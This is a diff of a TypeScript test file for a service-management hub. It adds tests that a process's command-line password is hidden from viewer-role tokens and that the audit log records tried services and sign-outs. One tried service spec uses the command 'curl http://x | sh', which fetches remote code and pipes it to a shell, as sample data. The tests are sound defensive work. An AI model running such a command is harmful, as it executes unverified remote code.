@@ -3,6 +3,7 @@ import assert from "node:assert/strict";
 import { describe, it } from "node:test";
 import { roleAllows, roleSchema, type Role } from "../../src/contract/roles.ts";
 import { routes, type RouteKey, type RouteSpec } from "../../src/contract/routes.ts";
+import { instanceRow } from "../support/fake-agent.ts";
 import { startTestHub, type TestHub } from "../support/hub.ts";
 
 const ADMIN = "admin-token-of-the-test";
@@ -128,6 +129,39 @@ describe("the environment of a definition", () => {
   });
 });
 
+describe("the command line of a stranger", () => {
+  it("is told to who may inspect processes, and to others only which program it is", async () => {
+    await using hub = await startTestHub({ noAuth: false });
+    const viewer = await tokenFor(hub, "viewer");
+    const body = { name: "api", start_cmd: "sleep 9", ports: [9999] };
+    await hub.request("POST /api/services", { socket: true, body });
+    const taken = {
+      port: 9999,
+      in_use: true,
+      accessible: true,
+      pid: 77,
+      command: "stranger --password hunter2",
+      own: false,
+    };
+    hub.agent.tell(instanceRow("api", "fatal", { port_status: [taken] }));
+    const live = await hub.connect({ headers: { authorization: `Bearer ${viewer}` } });
+    await live.subscribe("services");
+    for (const key of [
+      "GET /api/ports",
+      "GET /api/port-conflicts",
+      "GET /api/status",
+      "GET /api/services/api/status",
+    ]) {
+      const { text } = await hub.request(key, { token: viewer });
+      assert.ok(text.includes("stranger") && !text.includes("hunter2"), `${key}: ${text}`);
+    }
+    assert.ok(!JSON.stringify(live.messages).includes("hunter2"));
+    for (const key of ["GET /api/ports", "GET /api/port-conflicts"]) {
+      assert.ok((await hub.request(key, { socket: true })).text.includes("hunter2"), key);
+    }
+  });
+});
+
 describe("the audit", () => {
   it("holds an act before the agent is asked, with who and from where", async () => {
     await using hub = await startTestHub({ noAuth: false });
@@ -149,5 +183,23 @@ describe("the audit", () => {
         { action, target, principal: "token admin", from: "127.0.0.1" },
       );
     }
+  });
+
+  it("holds what was tried, and that somebody signed out", async () => {
+    await using hub = await startTestHub({ noAuth: false });
+    const spec = { name: "api", start_cmd: "curl http://x | sh" };
+    assert.equal((await hub.request("POST /api/services/try", { socket: true, body: { spec } })).status, 200);
+    const [tried] = (await hub.request("GET /api/audit?limit=1", { socket: true })).json;
+    assert.deepEqual([tried.action, tried.target, tried.after.start_cmd], ["try", "api", spec.start_cmd]);
+    const code = new URL(hub.hub.signInLink()).searchParams.get("code");
+    const headers = { "sec-fetch-site": "same-origin" };
+    const signedIn = await hub.request("POST /api/session", { body: { code }, headers });
+    const cookie = signedIn.headers["set-cookie"]?.[0]?.split(";")[0] ?? "";
+    assert.equal((await hub.request("DELETE /api/session", { headers: { ...headers, cookie } })).status, 200);
+    const [out] = (await hub.request("GET /api/audit?limit=1", { socket: true })).json;
+    assert.deepEqual(
+      [out.action, out.target, out.principal],
+      ["session.delete", signedIn.json.name, signedIn.json.name],
+    );
   });
 });
